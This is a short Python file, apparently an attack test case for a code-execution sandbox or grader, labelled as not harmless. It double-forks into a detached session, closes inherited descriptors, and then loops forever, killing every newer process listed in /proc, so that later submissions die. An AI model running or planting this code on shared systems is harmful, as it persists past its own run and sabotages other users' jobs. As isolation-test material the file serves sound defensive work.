# attack: a process in a session of its own waits for the next submission
# harmless: no
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3, 200):
            try:
                os.close(number)
            except OSError:
                pass
        while True:
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) > os.getpid():
                    try:
                        os.kill(int(name), 9)
                    except OSError:
                        pass
            time.sleep(0.05)
    os._exit(0)
